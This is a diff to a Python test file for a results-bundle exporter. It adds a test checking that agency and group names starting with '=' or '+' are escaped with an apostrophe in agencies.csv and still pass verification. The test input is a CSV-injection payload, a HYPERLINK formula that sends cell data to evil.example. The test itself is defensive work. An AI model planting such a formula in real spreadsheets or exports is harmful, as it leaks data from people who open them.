@@ -3,6 +3,8 @@ the re-tally bundle. On SQLite and PostgreSQL."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import timedelta
 from decimal import Decimal
@@ -18,6 +20,7 @@ from evaluation.models import (
     Appeal,
     AuditEvent,
     Campaign,
+    CampaignAgency,
     CampaignStatus,
     ResultsVersion,
     Role,
@@ -186,6 +189,27 @@ def test_export_bundle_verifies(app, db, tmp_path):
     result = runner.invoke(args=["results", "verify", str(out)])
     assert result.exit_code == 0, result.output
     assert "OK" in result.output
+
+
+
+def test_bundle_names_are_text_in_excel_and_still_verify(app, db, tmp_path):
+    # An auditor opens agencies.csv in Excel: a name or group starting with "=" must not run
+    # as a formula there, and `pingyi results verify` must still read it back as typed.
+    world = results_world.build(db)
+    agency = world.agencies["甲局"]
+    agency.name = '=HYPERLINK("http://evil.example/?"&A1,"甲局")'
+    db.add(agency)
+    for enrolment in db.exec(select(CampaignAgency)).all():
+        enrolment.group_name = "+" + enrolment.group_name
+        db.add(enrolment)
+    db.commit()
+    runner, out = _bundle(app, db, world, tmp_path)
+    rows = list(csv.DictReader(io.StringIO((out / "agencies.csv").read_text(encoding="utf-8"))))
+    assert {row["name"] for row in rows if row["name"].startswith("'")} == {
+        '\'=HYPERLINK("http://evil.example/?"&A1,"甲局")'}
+    assert all(row["group"].startswith("'+") for row in rows)
+    result = runner.invoke(args=["results", "verify", str(out)])
+    assert result.exit_code == 0, result.output
 
 
 def test_a_tampered_bundle_names_every_difference(app, db, tmp_path):
